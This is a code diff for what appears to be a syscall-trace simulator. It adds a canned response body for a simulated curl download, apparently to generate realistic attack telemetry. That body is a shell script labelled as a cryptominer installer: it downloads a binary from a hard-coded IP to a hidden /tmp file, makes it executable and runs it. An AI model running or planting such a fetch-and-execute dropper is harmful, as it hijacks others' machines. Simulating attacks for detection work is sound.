@@ -26,6 +26,11 @@ const KNOWN: Record<string, string> = {
   localhost: '127.0.0.1',
 };
 
+/** The few remote resources whose content matters: a script that gets piped into a shell. */
+export const REMOTE_BODIES: Readonly<Record<string, string>> = {
+  'http://45.33.12.7/i.sh': '#!/bin/sh\n# xmr installer\ncurl -s http://45.33.12.7/x86_64 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x\n',
+};
+
 /** Parses http(s)://host[:port]/path. */
 export function parseUrl(url: string): { tls: boolean; host: string; port: number; path: string } {
   const m = /^(https?):\/\/([^/:]+)(?::(\d+))?(\/.*)?$/.exec(url);
@@ -79,7 +84,13 @@ export function* httpGet(u: U, url: string, outFd: number): Gen<number> {
     if (n <= 0) break;
     total += n;
     u.at(exeStack('/usr/bin/curl', 'tool_write_cb'));
-    yield u.libc('fwrite', NR.write, outFd, u.buf('out', 16384), Math.min(n, 16384));
+    const body = REMOTE_BODIES[url];
+    if (body === undefined) yield u.libc('fwrite', NR.write, outFd, u.buf('out', 16384), Math.min(n, 16384));
+    else if (total === n) {
+      // A resource whose text matters is written whole, once (the rest is headers).
+      const [a, len] = u.text('out', body);
+      yield u.libc('fwrite', NR.write, outFd, a, len);
+    }
   }
   yield u.close(fd);
   return total;
